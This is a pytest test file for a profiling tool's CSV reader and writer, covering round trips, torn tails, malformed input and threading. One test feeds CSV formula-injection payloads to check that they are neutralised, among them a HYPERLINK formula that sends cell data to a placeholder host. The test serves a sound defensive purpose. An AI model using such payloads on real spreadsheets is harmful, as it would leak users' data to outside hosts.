"""The profile CSV reader and writer helpers: round trips, torn tails, garbage, real CSV quoting."""

from __future__ import annotations

import csv
import io
import logging
import os
import threading
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from my_utils.core.csv_safe import csv_text_value
from my_utils.core.errors import InputError
from my_utils.core.profile_csv import (
    HEADER_LINE,
    PROFILE_CSV_COLUMNS,
    format_metadata,
    format_profile_line,
    parse_metadata,
    read_profile_csv,
)
from my_utils.core.profile_csv_writer import ProfileCsvWriter

BASE_NS = 1_764_000_000_123_456_000
# what Excel, LibreOffice and Google Sheets run as a formula when a text cell starts with it
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

texts = st.text(alphabet=st.characters(codec="utf-8"), max_size=30)
row_args = st.tuples(
    st.integers(min_value=0, max_value=4_000_000_000 * 10**9),  # unix ns
    texts,  # machine
    st.integers(min_value=-(2**40), max_value=2**40),  # step
    texts,  # event name
    st.sampled_from(["START", "END", "MARK", "weird,type"]),
    st.floats(allow_nan=False, allow_infinity=False, width=64),
    st.dictionaries(texts.filter(bool), texts, max_size=4),
)


def write(tmp_path: Path, data: bytes, name: str = "p.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def sample_lines(n: int = 5) -> list[str]:
    return [
        format_profile_line(BASE_NS + i * 1000, "host_rank0", i // 2, f"region,{i}\n\"q\"", "START" if i % 2 == 0
                            else "END", 0.5 * i, f"node_id={i};note=a,b")
        for i in range(n)
    ]


def test_columns_are_the_seed_columns_in_order() -> None:
    assert PROFILE_CSV_COLUMNS == ("timestamp_unix", "readable_time", "machine_id", "step", "event_name",
                                   "event_type", "duration_ms", "metadata")
    assert ",".join(PROFILE_CSV_COLUMNS) + "\n" == HEADER_LINE


def test_lines_are_real_csv_readable_by_the_csv_module(tmp_path: Path) -> None:
    lines = sample_lines()
    records = list(csv.DictReader(io.StringIO(HEADER_LINE + "".join(lines), newline="")))
    # a multi-line name carries the formula guard after its line break and quotes (csv_safe), which the
    # project's reader takes off
    assert [r["event_name"] for r in records] == [f"region,{i}\n'\"q\"'" for i in range(5)]
    assert [csv_text_value(r["event_name"]) for r in records] == [f"region,{i}\n\"q\"" for i in range(5)]
    assert records[1]["metadata"] == "node_id=1;note=a,b"
    assert float(records[3]["duration_ms"]) == 1.5
    assert records[0]["timestamp_unix"] == "1764000000.123456"


def test_reader_returns_rows_with_their_start_lines(tmp_path: Path) -> None:
    path = write(tmp_path, (HEADER_LINE + "".join(sample_lines(3))).encode())
    rows = read_profile_csv(path)
    # each name holds one newline, so every record spans two physical lines
    assert [r.line for r in rows] == [2, 4, 6]
    assert rows[2].metadata_dict() == {"node_id": "2", "note": "a,b"}
    assert rows[1].step == 0 and rows[2].step == 1
    assert rows[0].timestamp_unix == pytest.approx(BASE_NS / 1e9)


@settings(max_examples=150, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(row_args, min_size=1, max_size=6))
def test_valid_rows_round_trip(tmp_path: Path, rows: list[tuple]) -> None:
    text = HEADER_LINE + "".join(
        format_profile_line(ns, machine, step, name, etype, dur, format_metadata(meta))
        for ns, machine, step, name, etype, dur, meta in rows
    )
    path = write(tmp_path, text.encode("utf-8"))
    got = read_profile_csv(path)
    assert len(got) == len(rows)
    for record in list(csv.reader(io.StringIO(text)))[1:]:  # as a spreadsheet sees the cells
        assert not any(record[i].startswith(FORMULA_START) for i in (2, 4, 5, 7)), record
    for (ns, machine, step, name, etype, dur, meta), row in zip(rows, got, strict=True):
        assert (row.machine_id, row.step, row.event_name, row.event_type) == (machine, step, name, etype.strip())
        assert row.duration_ms == dur
        assert row.timestamp_unix == pytest.approx((ns // 1000) / 1e6, abs=1e-6)
        assert row.metadata_dict() == {k.strip(): v for k, v in meta.items()}


@settings(max_examples=300, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=400), st.booleans())
def test_arbitrary_bytes_never_crash_the_reader(tmp_path: Path, data: bytes, with_header: bool) -> None:
    path = write(tmp_path, (HEADER_LINE.encode() if with_header else b"") + data)
    try:
        rows = read_profile_csv(path)
    except InputError as exc:
        assert str(exc).startswith(f"{path}:")
    else:
        assert all(r.line >= 2 for r in rows)


def test_every_truncation_of_a_valid_file_reads_as_a_prefix(tmp_path: Path) -> None:
    """What a killed writer leaves: any cut point gives the complete rows before it, never an error."""
    data = (HEADER_LINE + "".join(sample_lines(4)) + format_profile_line(BASE_NS, "m", 9, "é名", "END", 1.0,
                                                                         "k=ü")).encode()
    full = read_profile_csv(write(tmp_path, data))
    for cut in range(len(data) + 1):
        rows = read_profile_csv(write(tmp_path, data[:cut]))
        assert rows == full[: len(rows)]


def test_truncation_loses_at_most_the_record_in_flight(tmp_path: Path) -> None:
    data = (HEADER_LINE + "".join(sample_lines(4))).encode()
    full = read_profile_csv(write(tmp_path, data))
    for cut in range(len(HEADER_LINE), len(data) + 1):
        complete = sum(1 for r in full if _record_end(data, r.line) <= cut)
        assert len(read_profile_csv(write(tmp_path, data[:cut]))) == complete, cut


def _record_end(data: bytes, line: int) -> int:
    """Byte offset after the 2-line record starting at ``line``."""
    offsets = [i + 1 for i in range(len(data)) if data[i:i + 1] == b"\n"]
    return offsets[line]  # records of sample_lines span lines ``line`` and ``line + 1``


@pytest.mark.parametrize(
    ("content", "place", "expected"),
    [
        (b"a,b,c\n", "line 1", "expected the profile CSV header"),
        (HEADER_LINE.encode() + b"1.0,t,m,3,n,START\n", "line 2", "expected 8 comma-separated fields"),
        (HEADER_LINE.encode() + b"x,t,m,3,n,START,0,\n", "line 2", "expected a number in column 'timestamp_unix'"),
        (HEADER_LINE.encode() + b"1.0,t,m,3.5,n,START,0,\n", "line 2", "expected an integer in column 'step'"),
        (HEADER_LINE.encode() + b"1.0,t,m,3,n,END,fast,\n", "line 2", "expected a number in column 'duration_ms'"),
        (HEADER_LINE.encode() + b"inf,t,m,3,n,END,1,\n", "line 2", "expected a finite unix time"),
        (HEADER_LINE.encode() + b"\xff\xfe,t\n1.0,t,m,3,n,END,1,\n", "line 2", "expected 8 comma-separated fields"),
        (HEADER_LINE.encode() + b'1.0,"t"x,m,3,n,END,1,\n1.0,t,m,3,n,END,1,\n', "line 2", "well-formed CSV"),
        (b'{"traceEvents": []}', "line 1", "expected the profile CSV header"),
    ],
)
def test_garbage_is_reported_with_file_line_and_expectation(tmp_path: Path, content: bytes, place: str,
                                                             expected: str) -> None:
    path = write(tmp_path, content)
    with pytest.raises(InputError) as info:
        read_profile_csv(path)
    assert str(info.value).startswith(f"{path}:{place}: ")
    assert expected in str(info.value)


def test_an_old_file_with_non_utf8_names_is_read_with_the_bytes_escaped(tmp_path: Path,
                                                                        caplog: pytest.LogCaptureFixture) -> None:
    # what the writer wrote before names went through utf8_text: a raw \xe9 byte in the middle
    good = format_profile_line(BASE_NS, "m", 1, "n", "START", 0.0, "node_id=0")
    bad = good.replace(",n,", ",layer_\udce9,").encode("utf-8", "surrogateescape")
    path = write(tmp_path, HEADER_LINE.encode() + bad + good.encode() + bad)
    with caplog.at_level(logging.WARNING, logger="my_utils.core.profile_csv"):
        rows = read_profile_csv(path)
    assert [r.event_name for r in rows] == ["layer_\\xe9", "n", "layer_\\xe9"]
    assert "2 line(s) are not valid UTF-8 (lines 2, 4)" in caplog.text
    # a multi-byte character cut by a killed writer is still a torn last record, not a row
    torn = write(tmp_path, HEADER_LINE.encode() + good.encode() + good.replace(",n,", ",é,").encode()[:-12])
    assert [r.event_name for r in read_profile_csv(torn)] == ["n"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs os.mkfifo (POSIX)")
def test_a_fifo_named_like_a_profile_csv_is_refused_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "profile_rank_1.csv"
    os.mkfifo(fifo)
    (tmp_path / "profile_rank_1.steplog").write_bytes(b"")  # a log beside it: not rendered into a FIFO
    outcome: list[BaseException] = []
    reader = threading.Thread(target=lambda: outcome.append(_raised(lambda: read_profile_csv(fifo))), daemon=True)
    reader.start()
    reader.join(10)
    if reader.is_alive():  # unblock the reader before failing, so the session can end
        with open(fifo, "wb"):
            pass
        pytest.fail("reading a FIFO blocked")
    (error,) = outcome
    assert isinstance(error, InputError) and str(error) == f"{fifo}: a regular file (this is a FIFO)"


def _raised(fn: Callable[[], object]) -> BaseException:
    try:
        fn()
    except BaseException as exc:
        return exc
    raise AssertionError("no error raised")


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2", "@SUM(A1:A9)",
                                  "\t=1", "'=already quoted", "''+twice", "=a,b\nc", "\uff1dcmd"])
def test_formula_names_are_neutralised_in_the_file_and_restored_by_the_reader(tmp_path: Path, name: str) -> None:
    line = format_profile_line(BASE_NS, "=host_rank0", 1, name, "-START", 0.0, "@k=v")
    path = write(tmp_path, (HEADER_LINE + line).encode())
    (cells,) = list(csv.reader(io.StringIO(line)))
    assert [cells[i][:1] for i in (2, 4, 5, 7)] == ["'"] * 4
    (row,) = read_profile_csv(path)
    assert (row.machine_id, row.event_name, row.event_type, row.metadata) == ("=host_rank0", name, "-START", "@k=v")


def test_empty_file_bom_and_blank_lines(tmp_path: Path) -> None:
    assert read_profile_csv(write(tmp_path, b"")) == []
    line = format_profile_line(BASE_NS, "m", 1, "n", "START", 0.0, "")
    rows = read_profile_csv(write(tmp_path, b"\xef\xbb\xbf" + HEADER_LINE.encode() + b"\n" + line.encode()))
    assert [(r.event_name, r.line) for r in rows] == [("n", 3)]
    spaced = ", ".join(PROFILE_CSV_COLUMNS) + "\n"
    assert len(read_profile_csv(write(tmp_path, (spaced + line).encode()))) == 1


def test_missing_file_is_an_input_error(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="cannot open the profile CSV"):
        read_profile_csv(tmp_path / "absent.csv")


@settings(deadline=None, derandomize=True, database=None)
@given(st.dictionaries(texts.filter(lambda k: bool(k.strip()) and k == k.strip()), texts, max_size=5))
def test_metadata_round_trips(meta: dict[str, str]) -> None:
    assert parse_metadata(format_metadata(meta)) == meta


def test_metadata_stays_readable() -> None:
    assert format_metadata({"node_id": 3, "parent_id": 1}) == "node_id=3;parent_id=1"
    assert parse_metadata("layer=transformer_0") == {"layer": "transformer_0"}
    assert parse_metadata("flag;x=a=b") == {"flag": "", "x": "a=b"}


# -- writer ------------------------------------------------------------------------------


def test_writer_creates_header_and_appends(tmp_path: Path) -> None:
    writer = ProfileCsvWriter(tmp_path / "sub" / "p.csv")
    assert writer.open()
    assert (tmp_path / "sub" / "p.csv").read_text() == HEADER_LINE
    assert writer.write_lines(sample_lines(2))
    writer.close()
    reopened = ProfileCsvWriter(tmp_path / "sub" / "p.csv")
    reopened.write_lines(sample_lines(2))
    reopened.close()
    assert len(read_profile_csv(tmp_path / "sub" / "p.csv")) == 4


def test_writer_cuts_a_torn_tail_before_appending(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    path = tmp_path / "p.csv"
    lines = sample_lines(3)
    path.write_text(HEADER_LINE + lines[0] + lines[1][:17])
    writer = ProfileCsvWriter(path)
    writer.write_text(lines[2])
    writer.close()
    rows = read_profile_csv(path)
    assert [r.event_name for r in rows] == ["region,0\n\"q\"", "region,2\n\"q\""]
    assert "removing a torn last record" in caplog.text


def test_writer_reports_disk_full_once_and_never_raises(caplog: pytest.LogCaptureFixture) -> None:
    if not os.path.exists("/dev/full"):
        pytest.skip("/dev/full is not available on this system")
    writer = ProfileCsvWriter("/dev/full")
    assert writer.write_text("x\n") is False
    assert writer.write_text("y\n") is False
    assert writer.dropped_batches == 2
    assert caplog.text.count("cannot write profile rows to /dev/full") == 1
    writer.close()


def test_threads_never_interleave_rows(tmp_path: Path) -> None:
    path = tmp_path / "p.csv"
    writer = ProfileCsvWriter(path)

    def work(tid: int) -> None:
        for batch in range(200):
            writer.write_text("".join(
                format_profile_line(BASE_NS, f"t{tid}", batch, f"r{i}", "START", 0.0, f"thread={tid}")
                for i in range(10)))

    threads = [threading.Thread(target=work, args=(t,)) for t in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    writer.close()
    rows = read_profile_csv(path)
    assert len(rows) == 4 * 200 * 10
    for i in range(0, len(rows), 10):  # every batch of 10 is contiguous and in order
        batch = rows[i:i + 10]
        assert {(r.machine_id, r.step) for r in batch} == {(batch[0].machine_id, batch[0].step)}
        assert [r.event_name for r in batch] == [f"r{k}" for k in range(10)]


@pytest.mark.parametrize("content", [
    b'{"schema_version":1,"run_id":"r","name":"x","value":1.0}',  # one line of JSON, no newline
    b'{"schema_version":1,"run_id":"r","name":"x","value":1.0}\n',
    b'""', b'"unterminated', b'"a,b\n',
])
def test_a_file_that_is_not_a_profile_csv_is_refused(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "profile_rank_0.csv"
    path.write_bytes(content)
    with pytest.raises(InputError, match=r"profile_rank_0\.csv:line 1: expected (the profile CSV header|a well-formed CSV record)"):
        read_profile_csv(path)


@pytest.mark.parametrize("cut", [1, 14, 40, len(HEADER_LINE) - 1])
def test_a_header_cut_by_a_killed_writer_is_an_empty_file(tmp_path: Path, cut: int) -> None:
    path = tmp_path / "p.csv"
    path.write_text(HEADER_LINE[:cut])
    assert read_profile_csv(path) == []
